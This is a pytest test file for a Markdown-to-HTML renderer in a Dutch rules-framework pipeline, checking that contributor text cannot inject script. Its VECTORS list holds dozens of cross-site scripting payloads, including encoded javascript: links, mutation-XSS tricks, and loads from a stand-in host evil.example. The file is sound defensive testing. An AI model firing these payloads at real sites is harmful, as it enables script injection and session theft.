from __future__ import annotations

from functools import cache
from html.parser import HTMLParser
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.exports.html import Link, body_html
from pipeline.model.load import load
from tests.support import FIXTURES, MemoryTree, _files, schemas_of

if TYPE_CHECKING:
    from pipeline.model.framework import Entry
    from pipeline.model.kinds import Schemas

ALLOWED_TAGS = {
    *("a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt", "em"),
    *("h2", "h3", "h4", "h5", "h6", "hr", "i", "kbd", "li", "ol", "p", "pre", "s", "small", "span", "strong"),
    *("sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul"),
}
ALLOWED_ATTRIBUTES = {
    "a": {"href", "rel", "class", "id"},
    "abbr": {"title"},
    "div": {"class", "role", "tabindex", "aria-label"},
    "li": {"id"},
    "ol": {"start"},
    "p": {"class"},
    "sup": {"id"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
    **{f"h{level}": {"id"} for level in range(2, 7)},
}
ALLOWED_CLASSES = {"", "law", "admonition", "admonition-title", "table"}

# What others have tried, each in a form that has worked somewhere.
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    '<img src="x" alt="`<script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<math><mtext></p><style><img src=x onerror="alert(1)"></style></mtext></math>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<div class='page-header' id='_main' onclick=alert(1) tabindex=5 role=banner>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https:\\\\evil.example'>x</a>",
    "<a href=x onmouseover=alert(1)>x</a>",
    '<a title="x" href="x" target=_blank ping=https://evil.example>x</a>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<abbr title='<table><img src=x onerror=alert(1)>'>x</abbr>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=https://evil.example><button>x</button></form>",
    "<video><source onerror=alert(1)></video>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</main></body></html><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))",
    "[x](&#106;avascript&colon;alert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https&colon;//evil.example)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example '\" onmouseover=alert(1) x=\"')",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](x)',
    "<javascript:alert(1)>",
    '<https://a.example/"onclick="alert(1)>',
    "[x][y]\n\n[y]: javascript:alert(1)",
    '``` "><script>alert(1)</script>\nx\n```',
    '```js" onclick="alert(1)\nx\n```',
    "# <script>alert(1)</script>",
    '## x" onclick="alert(1)',
    "## x {#_main}",
    '## x {#a"b onclick=alert(1)}',
    "| a |\n| --- |\n| <script>alert(1)</script> |",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    'x[^"><script>]\n\n[^"><script>]: y',
    "{{7*7}} {% raw %} {{ self.__init__ }} ${7*7} #{7*7}",
    "{kind:<script>alert(1)</script>}",
    '{regel:"onclick="alert(1)}',
]


class Everywhere:
    """Links that lead wherever the writer wanted: the renderer must stand on its own."""

    def href(self, target: str) -> str | None:
        return target

    def mention(self, kind: str, code: str, locator: str) -> Link | None:
        if kind == "niets":
            return None
        return Link(
            text=f"{kind} {code} {locator}", href="javascript:alert(1)" if kind == "kwaad" else "https://a.example/"
        )


class Nowhere:
    def href(self, target: str) -> str | None:
        return "ergens.html" if target == "x.md" else None

    def mention(self, kind: str, code: str, locator: str) -> Link | None:
        del code, locator
        return None if kind == "niets" else Link(text="Titel", href="#x", law=kind == "wet")


class Auditor(HTMLParser):
    """Fails on any tag, attribute, class, id or address that is not on the lists above."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.ids: list[str] = []
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED_TAGS, tag
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES.get(tag, ()), (tag, name, value)
            if name == "href":
                self.judge(value or "")
            elif name == "id":
                assert value
                assert not value.startswith("_")
                self.ids.append(value)
            elif name == "class":
                assert value in ALLOWED_CLASSES

    def judge(self, address: str) -> None:
        # A browser drops these before it looks at the scheme (WHATWG URL, 4.4).
        address = "".join(char for char in address if char > " ")
        scheme, colon, _ = address.partition(":")
        plain = scheme.isascii() and scheme.replace("+", "").isalnum()
        assert not colon or not plain or scheme.lower() in {"http", "https", "mailto"}, address

    def handle_comment(self, data: str) -> None:
        pytest.fail(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        pytest.fail(f"a declaration: {decl}")

    def handle_data(self, data: str) -> None:
        self.words.append(data)


@cache
def schemas_for(dialect: str, *, html: bool) -> Schemas:
    files = _files(FIXTURES / "klein" / "schemas")
    markdown = f'"markdown": {{"dialect": "{dialect}", "slugs": "github", "html": {str(html).lower()}}}'
    before = b'"markdown": { "dialect": "commonmark", "slugs": "github", "html": false }'
    assert before in files["framework.json"]
    return schemas_of({**files, "framework.json": files["framework.json"].replace(before, markdown.encode())})


def entry(body: str, *, html: bool = False, dialect: str = "commonmark", keep_tokens: bool = False) -> Entry:
    text = f"---\nid: urn:klein:regel:avg-13\ntitle: Titel\nstatus: concept\n---\n{body}"
    tree = MemoryTree({"content/regels/avg-13-x.md": text.encode("utf-8", "replace")})
    return load(tree, schemas_for(dialect, html=html), keep_tokens=keep_tokens).entries[0]


def audit(html: str) -> Auditor:
    auditor = Auditor()
    auditor.feed(html)
    auditor.close()
    assert len(auditor.ids) == len(set(auditor.ids))
    return auditor


@pytest.mark.parametrize("raw", [False, True], ids=["markdown", "raw"])
@pytest.mark.parametrize("dialect", ["commonmark", "python-markdown"])
@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_of_a_contributor_runs(vector: str, dialect: str, *, raw: bool) -> None:
    for body in (vector, f"tekst {vector} tekst", f"> {vector}", f"- {vector}\n\n- a\n\n{vector}\n\n## Kop"):
        audit(body_html(entry(body, html=raw, dialect=dialect), Everywhere()))


@settings(max_examples=150, deadline=None)
@given(
    body=st.lists(
        st.sampled_from(["<", ">", '"', "'", "&", "`", "[", "](", ")", "!", "#", "\n", " ", "/", "\\", *VECTORS])
    )
)
@pytest.mark.parametrize("raw", [False, True])
def test_no_mix_of_vectors_runs(body: list[str], *, raw: bool) -> None:
    audit(body_html(entry("".join(body), html=raw), Everywhere()))


def test_raw_html_is_text_unless_the_kind_allows_it() -> None:
    body = "Een <b>vet</b> woord.\n\n<p>Blok</p>\n"
    assert body_html(entry(body), Nowhere()) == (
        "<p>Een &lt;b&gt;vet&lt;/b&gt; woord.</p>\n<p>&lt;p&gt;Blok&lt;/p&gt;</p>\n"
    )
    assert body_html(entry(body, html=True), Nowhere()) == "<p>Een <b>vet</b> woord.</p>\n<p>Blok</p>\n"


@pytest.mark.parametrize("raw", [False, True])
def test_comments_are_dropped(*, raw: bool) -> None:
    body = "Voor <!-- geheim --> na.\n\n<!-- geheim -->\n\n<!-- geheim\n"
    words = " ".join("".join(audit(body_html(entry(body, html=raw), Nowhere())).words).split())
    assert words == "Voor na."


def test_a_template_in_a_body_stays_text() -> None:
    assert "{{7*7}} {% x %}" in body_html(entry("{{7*7}} {% x %}"), Nowhere())


def test_links_lead_where_the_site_says_or_nowhere() -> None:
    html = body_html(entry("[a](x.md) [b](y.md) ![c](z.png)"), Nowhere())
    assert html == '<p><a href="ergens.html">a</a> b c</p>\n'
    raw = body_html(entry("<a href='x.md'>a</a> <a href='y.md'>b</a>", html=True), Nowhere())
    assert 'href="ergens.html"' in raw
    assert "y.md" not in raw


def test_a_link_off_the_site_says_nothing_about_where_it_came_from() -> None:
    for raw in (False, True):
        html = body_html(entry("[a](https://a.example/?x=1&y=2)", html=raw), Everywhere())
        assert html == '<p><a href="https://a.example/?x=1&amp;y=2" rel="noopener noreferrer">a</a></p>\n'


def test_mentions_become_links_with_the_title() -> None:
    html = body_html(entry("Zie {regel:avg-13}, {wet:avg:35} en {niets:x}."), Nowhere())
    assert html == '<p>Zie <a href="#x">Titel</a>, <a href="#x" class="law">Titel</a> en {niets:x}.</p>\n'


def test_a_mention_in_a_link_is_no_second_link() -> None:
    assert body_html(entry("[zie {wet:avg:35}](x.md)"), Nowhere()) == '<p><a href="ergens.html">zie Titel</a></p>\n'


def test_a_mention_cannot_bring_a_bad_address() -> None:
    html = body_html(entry("{kwaad:x}"), Everywhere())
    audit(html)
    assert "javascript" not in html


def test_headings_keep_their_anchors_below_the_title_of_the_page() -> None:
    body = "# Titel\n\n## Risico\n\n# Nog een\n\n###### Diep\n"
    assert [line for line in body_html(entry(body), Nowhere()).splitlines() if line] == [
        '<h2 id="titel">Titel</h2>',
        '<h2 id="risico">Risico</h2>',
        '<h2 id="nog-een">Nog een</h2>',
        '<h6 id="diep">Diep</h6>',
    ]
    assert body_html(entry(body), Nowhere(), skip_title=True).startswith('<h2 id="risico">')
    assert '<h4 id="begrip:risico">' in body_html(entry("## Risico"), Nowhere(), shift=2, prefix="begrip:")


def test_ids_of_the_page_itself_are_out_of_reach() -> None:
    html = body_html(entry("## \\_main\n\n<a id='_menu'></a><b id='x'>y</b>", html=True), Nowhere())
    assert audit(html).ids == []


def test_the_same_id_twice_stands_once() -> None:
    html = body_html(entry("## Kop\n\n<a id='kop'></a>", html=True), Nowhere(), prefix="a:")
    assert audit(html).ids == ["a:kop"]


def test_footnotes_lead_there_and_back() -> None:
    html = body_html(entry("Een[^a] en weer[^a].\n\n[^a]: Noot.\n"), Nowhere(), prefix="p:")
    assert audit(html).ids == ["p:fnref:1", "p:fnref:1:1", "p:fn:1"]
    for name in ("fn:1", "fnref:1", "fnref:1:1"):
        assert f'href="#p:{name}"' in html


def test_a_table_scrolls_with_the_keyboard() -> None:
    html = body_html(entry("| a | b |\n| :-: | --- |\n| 1 | 2 |\n"), Nowhere())
    assert html.startswith('<div class="table" ')
    assert 'tabindex="0"' in html
    assert "style" not in html


def test_attribute_lists_of_python_markdown_are_no_text() -> None:
    body = '## Kop { data-x }\n\n[knop](x.md){ .md-button } en {.x} maar {dit} blijft\n\n!!! note "Let op"\n    Tekst\n'
    html = body_html(entry(body, dialect="python-markdown"), Nowhere())
    assert " ".join("".join(audit(html).words).split()) == "Kop knop en maar {dit} blijft Let op Tekst"
    assert 'class="admonition"' in html


def test_kept_tokens_give_the_same() -> None:
    body = "## Kop\n\nTekst met {regel:avg-13} en `code`.\n"
    assert body_html(entry(body, keep_tokens=True), Nowhere()) == body_html(entry(body), Nowhere())


def test_no_body_is_nothing() -> None:
    framework = load(
        MemoryTree({"content/stappen.yaml": "- {id: urn:klein:stap:een, title: Een, slug: een}\n"}),
        schemas_for("commonmark", html=False),
    )
    assert body_html(framework.entries[0], Nowhere()) == ""
